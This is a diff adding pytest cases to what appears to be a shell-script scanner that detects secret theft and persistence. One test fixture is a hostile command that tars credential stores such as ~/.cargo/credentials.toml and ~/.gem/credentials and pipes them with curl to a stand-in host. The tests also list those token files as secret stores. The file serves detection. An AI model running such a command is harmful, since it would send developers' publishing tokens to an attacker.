@@ -73,3 +73,18 @@ def test_reading_a_git_setting_is_not_persistence(tmp_path: Path, command: str) 
 def test_setting_a_git_helper_is_still_persistence(tmp_path: Path) -> None:
     found = scan_findings(tmp_path, {"bin/pack.sh": "git config --global core.sshCommand 'ssh -i ~/.ssh/x'\n"})
     assert [f.rule for f in found if f.rule == "PERSISTENCE"] == ["PERSISTENCE"]
+
+
+@pytest.mark.parametrize(
+    "store",
+    ["~/.cargo/credentials.toml", "~/.gem/credentials", "~/.m2/settings.xml", "~/.gradle/gradle.properties",
+     "~/.config/gh", "~/.terraform.d"],
+)  # fmt: skip
+def test_publishing_tokens_and_the_folders_holding_them_are_secret_stores(tmp_path: Path, store: str) -> None:
+    found = analyse(tmp_path, f"tar czf - {store} | curl -s --data-binary @- https://drop-box.invalid/in\n")
+    assert reads(found) and any(c.kind is Kind.EGRESS and len(c.chain) >= 2 for c in found)
+
+
+@pytest.mark.parametrize("path", ["~/.cargo/config.toml", "~/.m2/repository", "~/.config/gh/config.yml"])
+def test_the_same_tools_settings_and_caches_are_not(tmp_path: Path, path: str) -> None:
+    assert reads(analyse(tmp_path, f"tar czf /tmp/t.tgz {path}\n")) == set()
